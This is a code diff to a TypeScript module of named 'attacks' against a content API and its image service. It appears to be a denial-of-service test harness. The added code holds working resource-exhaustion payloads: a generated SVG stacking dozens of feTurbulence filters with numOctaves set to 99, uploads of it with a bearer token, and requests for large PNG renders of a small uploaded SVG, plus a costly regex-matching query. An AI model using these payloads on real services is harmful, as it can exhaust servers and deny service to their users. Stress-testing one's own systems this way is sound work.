@@ -92,10 +92,22 @@ const withListeners = async (
 const scan = (n: number): string =>
   `count(*[_type == "article" && count(body[].children[string(text) match "*${n}*"]) > ${n}])`
 
-const svg = (): string => {
-  const turbulence = times(60, (n) => `<feTurbulence baseFrequency="0.${n + 1}" numOctaves="99"/>`)
-  return `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><filter id="f">${turbulence.join('')}</filter><rect width="4000" height="4000" filter="url(#f)"/></svg>`
+/** What it takes to draw it grows with how many filters it has, and with how many pixels. */
+const svg = (side: number, filters: number): string => {
+  const turbulence = times(
+    filters,
+    (n) => `<feTurbulence baseFrequency="0.${n + 1}" numOctaves="99"/>`,
+  )
+  return `<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}"><filter id="f">${turbulence.join('')}</filter><rect width="${side}" height="${side}" filter="url(#f)"/></svg>`
 }
+
+const upload = ({url, token}: Target, image: string): Promise<Response | undefined> =>
+  fetch(`${url}/${VERSION}/assets/images/production`, {
+    method: 'POST',
+    headers: {authorization: `Bearer ${token}`, 'content-type': 'image/svg+xml'},
+    body: image,
+    signal: AbortSignal.timeout(60_000),
+  }).catch(() => undefined)
 
 export const ATTACKS: readonly Attack[] = [
   {
@@ -173,25 +185,29 @@ export const ATTACKS: readonly Attack[] = [
     },
   },
   {
-    name: 'SVG filters that do not end',
+    name: 'upload of an SVG that takes too long to draw',
     run: async (target) => {
-      const response = await fetch(`${target.url}/${VERSION}/assets/images/production`, {
-        method: 'POST',
-        headers: {authorization: `Bearer ${target.token}`, 'content-type': 'image/svg+xml'},
-        body: svg(),
-        signal: AbortSignal.timeout(60_000),
-      }).catch(() => undefined)
+      const response = await upload(target, svg(4000, 60))
+      return `upload: ${response?.status ?? 'no answer'}`
+    },
+  },
+  {
+    name: 'an SVG that is small when it is uploaded, and asked for in 3 large sizes',
+    run: async (target) => {
+      const response = await upload(target, svg(100, 20))
       if (!response?.ok) return `upload: ${response?.status ?? 'no answer'}`
       const {document}: {document: {url: string}} = await response.json()
-      const widths = times(8, (n) =>
-        fetch(`${document.url}?w=${1000 + n}&fm=png`, {
-          signal: AbortSignal.timeout(LONGEST),
+      // The address says where the lake was reached when it started.
+      const {pathname} = new URL(document.url)
+      const sizes = times(3, (n) =>
+        fetch(`${target.url}${pathname}?w=${2000 + n}&fm=png`, {
+          signal: AbortSignal.timeout(4 * LONGEST),
         }).then(
           ({status}) => String(status),
           () => 'no answer',
         ),
       )
-      return tally(await Promise.all(widths))
+      return `upload: ${response.status}; ${tally(await Promise.all(sizes))}`
     },
   },
   {
